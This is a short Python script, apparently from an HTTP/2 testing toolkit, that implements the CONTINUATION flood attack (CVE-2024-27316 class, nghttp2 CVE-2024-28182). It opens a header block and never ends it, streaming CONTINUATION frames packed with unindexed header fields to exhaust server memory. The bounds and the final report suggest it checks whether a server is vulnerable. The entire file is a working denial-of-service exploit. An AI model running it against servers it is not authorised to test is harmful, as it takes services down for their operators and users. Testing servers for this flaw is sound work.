#!/usr/bin/python3
"""continuation_flood: CVE-2024-27316 class / nghttp2's CVE-2024-28182. One HEADERS frame
without END_HEADERS, then CONTINUATION frames that never end the block, each full of new
literal header fields, bounded by --max-bytes and --seconds; then listens 2 s.

  continuation_flood.py --port N (--ca FILE | --plaintext) [--max-bytes 64000000] [--seconds 5]
"""
import time

from h2wire import (Connection, ContinuationFrame, Encoder, HeadersFrame, grpc_request_headers, main,
                    parse_args)

FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE every server accepts


def run():
    args = parse_args(__doc__, lambda p: p.add_argument("--max-bytes", type=int, default=64_000_000))
    conn = Connection(args)
    encoder = Encoder()
    first = encoder.encode(grpc_request_headers(args))
    conn.queue(HeadersFrame(1, data=first).serialize())
    deadline = time.monotonic() + args.seconds
    frames = 0
    total = 0
    while total < args.max_bytes:
        # Fields never indexed (huffman off): the server must keep each one or count it.
        block = bytearray()
        while len(block) < FRAME - 200:
            name = f"x-flood-{frames}-{len(block)}".encode()
            block += b"\x10" + bytes([len(name)]) + name + b"\x7f\x81\x01" + b"a" * 256
        frames += 1
        total += len(block)
        if not conn.send(ContinuationFrame(1, data=bytes(block)).serialize(), deadline):
            break
    conn.pump(time.monotonic() + 2)
    conn.report("continuation_flood", continuation_frames=frames, header_bytes=total)
    conn.close()


if __name__ == "__main__":
    main(run)
